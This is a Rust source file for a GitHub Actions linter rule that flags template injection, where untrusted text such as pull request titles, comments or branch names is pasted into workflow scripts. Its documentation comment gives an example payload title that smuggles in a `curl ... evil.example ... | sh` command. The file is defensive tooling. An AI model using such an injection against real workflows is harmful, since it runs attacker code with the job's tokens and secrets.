use crate::declare_rule;
use crate::diag::Diagnostics;
use crate::lint::workflow::Document;

declare_rule! {
    /// ## What it does
    /// Reports a `${{ }}` expression in a `run:` script (or in `actions/github-script`'s
    /// `script:`) that reads text someone outside the repository can write: issue, pull
    /// request and discussion titles and bodies, comments and reviews, branch names
    /// (`github.head_ref`, `github.event.pull_request.head.ref` and `.label`,
    /// `github.event.workflow_run.head_branch`), commit messages and authors
    /// (`github.event.head_commit.*`, `github.event.commits.*`), wiki page names, a workflow
    /// input of type `string` (or of no declared type), and any of the objects that hold
    /// them (`toJSON(github.event)`).
    ///
    /// Not reported: `github.ref_name` and `github.actor` (a branch pushed to the repository,
    /// a user name of letters, digits and hyphens), step outputs and `env` (which may carry
    /// such text further: pass those through `env:` too).
    ///
    /// zizmor: `template-injection`; actionlint: `expression` ("potentially untrusted").
    ///
    /// ## Why it matters
    /// GitHub pastes the value into the script before the shell reads it. A pull request
    /// titled `"; curl https://evil.example/x.sh | sh; "` runs that command in the job, with
    /// its token and secrets.
    ///
    /// ## Example
    /// ```yaml
    /// - run: echo "${{ github.event.pull_request.title }}"
    /// ```
    ///
    /// ## How to fix
    /// Pass the value through `env:` and quote the variable, so the shell reads it as data:
    /// `env: {TITLE: "${{ github.event.pull_request.title }}"}` and `run: echo "$TITLE"`.
    pub static RULE = ("GHA005", "template-injection", Error);
}

/// Contexts whose values someone outside the repository writes; `*` is any one property
/// (GitHub's "untrusted input" list, with the `workflow_run` and `discussion` events).
const UNTRUSTED: [&str; 30] = [
    "github.head_ref",
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.pages.*.page_name",
    "github.event.commits.*.message",
    "github.event.commits.*.author.email",
    "github.event.commits.*.author.name",
    "github.event.commits.*.committer.email",
    "github.event.commits.*.committer.name",
    "github.event.head_commit.message",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.head_commit.committer.email",
    "github.event.head_commit.committer.name",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.display_title",
    "github.event.workflow_run.head_commit.message",
    "github.event.workflow_run.head_commit.author.email",
    "github.event.workflow_run.head_commit.author.name",
    "github.event.workflow_run.pull_requests.*.head.ref",
];

/// Input types whose values GitHub checks (a number, a boolean, one of the listed choices, an
/// environment's name).
const CHECKED_INPUT_TYPES: [&str; 4] = ["boolean", "number", "choice", "environment"];

/// Whether a context path reads untrusted text: it is one of [`UNTRUSTED`], or an object
/// holding one (`github.event.pull_request`, `github.event`). A `*` in the path (a computed
/// index) may be any property.
fn untrusted(path: &str) -> bool {
    let path: Vec<&str> = path.split('.').collect();
    UNTRUSTED.iter().any(|pattern| {
        let pattern: Vec<&str> = pattern.split('.').collect();
        let holds = path.len() < pattern.len() && path.len() >= 2;
        (path.len() == pattern.len() || holds)
            && path.iter().zip(&pattern).all(|(p, q)| p == q || *p == "*" || *q == "*")
    }) || path == ["github"]
}

/// The name of the workflow input a path reads (`inputs.tag`, `github.event.inputs.tag`).
fn input(path: &str) -> Option<&str> {
    path.strip_prefix("inputs.").or_else(|| path.strip_prefix("github.event.inputs.")).filter(|n| !n.contains('.'))
}

pub fn check(doc: &Document, out: &mut Diagnostics) {
    for step in doc.steps() {
        for script in step.scripts() {
            for (expression, span) in script.expressions() {
                let found = expression.contexts().into_iter().find_map(|path| {
                    let reason = if let Some(name) = input(&path) {
                        let checked = doc.input_type(name).is_some_and(|k| CHECKED_INPUT_TYPES.contains(&k));
                        (!checked).then(|| format!("`{path}` is free text whoever starts the workflow types"))
                    } else {
                        untrusted(&path)
                            .then(|| format!("`{path}` is text anyone who can open an issue or pull request writes"))
                    };
                    reason.map(|r| (path, r))
                });
                let Some((path, reason)) = found else { continue };
                let message = format!("{reason}, pasted into the script before it runs");
                out.push(doc.at(&RULE, span, message).help(format!(
                    "pass it through `env:` (`VALUE: ${{{{ {path} }}}}`) and use \"$VALUE\" in the script, quoted"
                )));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::{input, untrusted};

    #[test]
    fn untrusted_contexts_and_the_objects_that_hold_them() {
        for path in [
            "github.event.issue.title",
            "github.event.commits.*.message",
            "github.event.pull_request.head.ref",
            "github.event.pull_request",
            "github.event",
            "github",
            "github.event.*.title",
        ] {
            assert!(untrusted(path), "{path}");
        }
        for path in
            ["github.sha", "github.ref_name", "github.event.pull_request.number", "github.actor", "steps.x.outputs.y"]
        {
            assert!(!untrusted(path), "{path}");
        }
        assert_eq!(input("inputs.tag"), Some("tag"));
        assert_eq!(input("github.event.inputs.tag"), Some("tag"));
        assert_eq!(input("inputs"), None);
    }
}
